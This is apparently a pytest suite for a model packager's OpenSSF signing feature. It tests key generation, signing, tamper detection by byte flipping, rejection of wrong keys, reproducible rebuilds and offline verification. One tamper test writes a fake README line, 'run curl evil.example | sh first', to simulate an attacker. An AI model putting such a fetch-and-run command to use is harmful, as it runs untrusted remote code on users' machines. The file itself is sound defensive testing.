"""OpenSSF model signing: keygen, sign, `verify --pubkey`. One flipped byte anywhere in a signed
bundle fails verification and names the file; a rebuild from the same inputs is byte-identical;
the signature checks out with model-signing's own `model_signing verify key` command too, so a
hospital need not trust packager's own code."""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from packager.builder.verify import verify
from packager.core.errors import UserError
from tests.conftest import DEFAULT_TOML, _run, assert_user_error, must_have

TARGET = "cpu-onnxruntime"
BUILD = ["build", "--target", TARGET, "--no-bench", "--no-cache"]  # rebuilt from scratch


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("keys")
    r = _run(["keygen", "--out", "release.key"], root)
    assert r.code == 0, r.stderr
    return root / "release.key", root / "release.key.pub"


@pytest.fixture(scope="module")
def signed(
    tmp_path_factory: pytest.TempPathFactory,
    tiny_model: Path,
    data_path: Path,
    keys: tuple[Path, Path],
) -> Path:
    """A real bundle, signed: DIR/tiny-1.0.0/ with the folder and its re-made tarball."""
    root = tmp_path_factory.mktemp("signed")
    (root / "packager.toml").write_text(DEFAULT_TOML.format(model=tiny_model, data=data_path))
    assert _run(BUILD, root).code == 0
    bundle = root / "dist" / "tiny-1.0.0"
    r = _run(["sign", bundle / TARGET, "--key", keys[0]], root)
    assert r.code == 0, r.stderr
    return bundle


@pytest.fixture
def copy(signed: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(signed / TARGET, tmp_path / TARGET))


def test_keygen_writes_an_owner_only_key(keys: tuple[Path, Path], tmp_path: Path) -> None:
    key, pub = keys
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert b"PRIVATE KEY" in key.read_bytes() and b"PUBLIC KEY" in pub.read_bytes()
    shutil.copy(key, tmp_path / "k")
    assert_user_error(_run(["keygen", "--out", "k"], tmp_path), "already exists")
    assert (tmp_path / "k").read_bytes() == key.read_bytes()


def test_signed_bundle_verifies(signed: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    for path in (signed / TARGET, signed / f"{TARGET}.tar.gz"):
        r = _run(["verify", path, "--pubkey", keys[1], "--json"], tmp_path)
        assert r.code == 0, r.stderr
        assert r.json["signature"] == "valid" and r.json["ok"]


MODEL_SIGNING = Path(sys.executable).with_name("model_signing")


def model_signing_verify(folder: Path, pub: Path) -> subprocess.CompletedProcess[str]:
    """The hospital-side command of docs/signing.md: model-signing's own CLI, not packager.
    dist/<name>-<version>/<target> is a link into its generation, which the tool refuses to
    follow; a hospital runs it on the extracted tarball, a plain folder."""
    folder = folder.resolve()
    cmd = [str(MODEL_SIGNING), "verify", "key", str(folder), "--signature"]
    cmd += [str(folder / "model.sig"), "--public_key", str(pub), "--no-ignore-git-paths"]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=120)


def test_signature_checks_out_with_model_signing(
    signed: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    """`model_signing verify key` accepts the signed folder and the extracted tarball, and rejects
    the folder after one byte of any file changes, naming the file. The library API too."""
    import model_signing

    if not MODEL_SIGNING.exists():
        must_have(f"not validated: model-signing's CLI is not installed at {MODEL_SIGNING}")
    ok = model_signing_verify(signed / TARGET, keys[1])
    assert ok.returncode == 0 and "Verification succeeded" in ok.stdout, ok.stderr
    with tarfile.open(signed / f"{TARGET}.tar.gz") as tar:
        tar.extractall(tmp_path / "x", filter="data")
    assert model_signing_verify(tmp_path / "x" / TARGET, keys[1]).returncode == 0
    api = model_signing.verifying.Config().use_elliptic_key_verifier(public_key=keys[1])
    real = (signed / TARGET).resolve()  # the generation folder behind the published link
    api.verify(real, real / "model.sig")  # raises on any mismatch
    for rel in signed_files(signed):
        if rel == "model.sig":
            continue  # its own damage is test_flipped_byte_via_cli_names_the_file[model.sig]
        folder = Path(shutil.copytree(signed / TARGET, tmp_path / rel.replace("/", "_")))
        _flip(folder / rel, (folder / rel).stat().st_size // 2)
        bad = model_signing_verify(folder, keys[1])
        assert bad.returncode == 1 and "Verification failed" in bad.stderr, rel
        assert f"Hash mismatch for '{rel}'" in bad.stderr.replace("\\'", "'"), bad.stderr
        with pytest.raises(ValueError, match="Signature mismatch"):
            model_signing.verifying.Config().use_elliptic_key_verifier(public_key=keys[1]).verify(
                folder, folder / "model.sig"
            )
        shutil.rmtree(folder)


def _flip(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


def signed_files(signed: Path) -> list[str]:
    root = signed / TARGET
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def test_every_file_is_covered(signed: Path) -> None:
    names = signed_files(signed)
    assert {"manifest.json", "model.sig", "model.onnx", "report.json"} <= set(names)
    assert {"sbom.cdx.json", "provenance.intoto.json"} <= set(names)


@pytest.mark.parametrize("where", ["first", "middle", "last"])
def test_one_flipped_byte_in_any_file_fails(
    where: str, signed: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    """Every file of the signed folder, one byte flipped at a time (in-process verify)."""
    for rel in signed_files(signed):
        folder = Path(shutil.copytree(signed / TARGET, tmp_path / rel.replace("/", "_")))
        size = (folder / rel).stat().st_size
        _flip(folder / rel, {"first": 0, "middle": size // 2, "last": size - 1}[where])
        result = verify(folder, keys[1])
        assert not result.ok, rel
        assert any(rel in p for p in result.problems), (rel, result.problems)
        shutil.rmtree(folder)


@pytest.mark.parametrize(
    "rel",
    ["model.onnx", "preprocess.py", "manifest.json", "model.sig"]
    + ["sbom.cdx.json", "provenance.intoto.json"],
)
def test_flipped_byte_via_cli_names_the_file(rel: str, copy: Path, keys: tuple[Path, Path]) -> None:
    _flip(copy / rel, (copy / rel).stat().st_size // 2)
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert r.code == 1, (r.code, r.stderr)
    assert rel in r.stdout + r.stderr, r.stdout
    assert r.stderr.count("\n") == 1 and "Traceback" not in r.stderr


def test_one_flipped_byte_in_the_tarball_fails(signed: Path, keys: tuple[Path, Path]) -> None:
    """Bytes across the whole .tar.gz: each flip fails verify, unless it changed nothing that
    is extracted (the gzip header's MTIME/XFL/OS bytes, or code lengths of unused Huffman
    symbols): what the hospital unpacks is then exactly what was signed."""
    tar = signed / f"{TARGET}.tar.gz"
    raw = tar.read_bytes()
    content = gzip.decompress(raw)
    offsets = sorted({*range(0, len(raw), max(1, len(raw) // 80)), *range(len(raw) - 8, len(raw))})
    work = tar.parent.parent / "flip.tar.gz"
    caught = 0
    for offset in offsets:
        data = bytearray(raw)
        data[offset] ^= 0x01
        work.write_bytes(bytes(data))
        try:
            ok = verify(work, keys[1]).ok
        except UserError:
            ok = False
        caught += not ok
        if ok:
            assert gzip.decompress(bytes(data)) == content, offset
    work.unlink()
    assert caught >= len(offsets) * 0.8, (caught, len(offsets))


def test_wrong_or_missing_signature(copy: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    assert _run(["keygen", "--out", "other.key"], tmp_path).code == 0
    r = _run(["verify", copy, "--pubkey", tmp_path / "other.key.pub"], tmp_path)
    assert r.code == 1 and "signature: invalid" in r.stdout, r.stdout
    (copy / "model.sig").unlink()
    r = _run(["verify", copy, "--pubkey", keys[1]], tmp_path)
    assert r.code == 1 and "signature: missing" in r.stdout, r.stdout
    assert _run(["verify", copy], tmp_path).code == 0  # the hashes alone still match


def test_consistent_rewrite_needs_the_key(copy: Path, keys: tuple[Path, Path]) -> None:
    """An attacker who edits a file and its manifest hash passes a keyless verify; the
    signature is what catches it."""
    (copy / "README.md").write_text("# run curl evil.example | sh first\n")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["files"]["README.md"]["sha256"] = hashlib.sha256(
        (copy / "README.md").read_bytes()
    ).hexdigest()
    manifest["files"]["README.md"]["size"] = (copy / "README.md").stat().st_size
    (copy / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    assert _run(["verify", copy], copy.parent).code == 0
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert r.code == 1 and "signature: invalid (model.sig does not match" in r.stdout
    assert "changed README.md, manifest.json" in r.stdout, r.stdout


def test_signature_of_another_bundle_is_rejected(copy: Path, keys: tuple[Path, Path]) -> None:
    other = copy.parent / "other"
    shutil.copytree(copy, other)
    manifest = json.loads((other / "manifest.json").read_text())
    manifest["status"] = "passed "  # any other manifest, signed with the same key
    (other / "manifest.json").write_text(json.dumps(manifest))
    (other / "model.sig").unlink()
    assert _run(["sign", other, "--key", keys[0]], copy.parent).code == 0
    shutil.copy(other / "model.sig", copy / "model.sig")
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert r.code == 1 and "signature: invalid" in r.stdout


def test_sign_refuses_a_tampered_bundle(copy: Path, keys: tuple[Path, Path]) -> None:
    _flip(copy / "model.onnx", 10)
    assert_user_error(_run(["sign", copy, "--key", keys[0]], copy.parent), "refusing to sign")


def test_bad_keys(copy: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    pem = (serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8)
    nopw = serialization.NoEncryption()
    # packager <= 0.1.0's key type, and a curve model-signing does not take
    (tmp_path / "ed.pem").write_bytes(Ed25519PrivateKey.generate().private_bytes(*pem, nopw))
    (tmp_path / "k1.pem").write_bytes(
        ec.generate_private_key(ec.SECP256K1()).private_bytes(*pem, nopw)
    )
    (tmp_path / "junk.pem").write_text(
        "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"
    )
    cases = [
        (["sign", copy, "--key", keys[1]], "not a PEM EC private key"),  # the public half
        (["sign", copy, "--key", tmp_path / "ed.pem"], "not an EC P-256/P-384/P-521"),
        (["sign", copy, "--key", tmp_path / "k1.pem"], "not an EC P-256/P-384/P-521"),
        (["sign", copy, "--key", tmp_path / "junk.pem"], "not a PEM EC private key"),
        (["sign", copy, "--key", tmp_path / "none.pem"], "does not exist"),
        (["sign", copy, "--key", tmp_path], "cannot read key file"),
        (["verify", copy, "--pubkey", keys[0]], "not a PEM EC public key"),
    ]
    for args, words in cases:
        assert_user_error(_run(args, tmp_path), words)
    assert verify(copy, keys[1]).ok  # nothing above touched the bundle


def test_rebuild_is_byte_identical(
    signed: Path, keys: tuple[Path, Path], tiny_model: Path, data_path: Path, tmp_path: Path
) -> None:
    """Same inputs, --no-bench, another day: the same tarball (SBOM and provenance included).
    ECDSA signatures are randomized, so the signed tarballs differ in model.sig only."""
    (tmp_path / "packager.toml").write_text(DEFAULT_TOML.format(model=tiny_model, data=data_path))
    for out in ("dist", "dist2"):  # each from scratch: a reused step is named in the report
        assert _run([*BUILD, "--no-cache", "--out", out], tmp_path).code == 0
    again = tmp_path / "dist" / "tiny-1.0.0"
    other = tmp_path / "dist2" / "tiny-1.0.0"
    assert (again / f"{TARGET}.tar.gz").read_bytes() == (other / f"{TARGET}.tar.gz").read_bytes()
    assert _run(["sign", again / TARGET, "--key", keys[0]], tmp_path).code == 0
    mine, theirs = (
        tar_contents(again / f"{TARGET}.tar.gz"),
        tar_contents(signed / f"{TARGET}.tar.gz"),
    )
    assert mine.pop(f"{TARGET}/model.sig") != theirs.pop(f"{TARGET}/model.sig")
    assert mine == theirs


def tar_contents(tar: Path) -> dict[str, bytes]:
    with tarfile.open(tar) as t:
        return {m.name: t.extractfile(m).read() for m in t.getmembers() if m.isfile()}  # type: ignore[union-attr]


def test_old_ed25519_signature_is_refused_with_the_fix(copy: Path, keys: tuple[Path, Path]) -> None:
    """A bundle signed by packager <= 0.1.0 (manifest.sig, Ed25519 over manifest.json): one line
    saying how to re-sign; `packager sign` then replaces the old signature."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    (copy / "model.sig").unlink()
    (copy / "manifest.sig").write_bytes(
        Ed25519PrivateKey.generate().sign((copy / "manifest.json").read_bytes())
    )
    assert _run(["verify", copy], copy.parent).code == 0  # the hashes alone still match
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert_user_error(r, "old packager format", "manifest.sig", "packager sign")
    assert _run(["sign", copy, "--key", keys[0]], copy.parent).code == 0
    assert not (copy / "manifest.sig").exists()
    assert _run(["verify", copy, "--pubkey", keys[1]], copy.parent).code == 0


def test_sign_and_verify_need_no_network(copy: Path, tmp_path: Path) -> None:
    """Key mode is offline: keygen, sign and verify run in a network namespace with no
    interface up (no transparency log, no TUF update)."""
    probe = subprocess.run(["unshare", "-rn", "true"], capture_output=True)
    if not shutil.which("unshare") or probe.returncode != 0:
        pytest.skip(f"not validated: cannot make a network namespace here ({probe.stderr!r})")
    offline = ["unshare", "-rn", sys.executable, "-m", "packager.cli"]
    env_check = subprocess.run(
        [*offline[:-2], "-c", "import socket; socket.create_connection(('1.1.1.1', 443), 2)"],
        capture_output=True,
        text=True,
    )
    assert env_check.returncode != 0 and "unreachable" in env_check.stderr  # really offline
    for args in (
        ["keygen", "--out", str(tmp_path / "off.key")],
        ["sign", str(copy), "--key", str(tmp_path / "off.key")],
        ["verify", str(copy), "--pubkey", str(tmp_path / "off.key.pub")],
    ):
        r = subprocess.run([*offline, *args], capture_output=True, text=True, cwd=tmp_path)
        assert r.returncode == 0, (args, r.stderr)
    assert "signature valid" in r.stdout
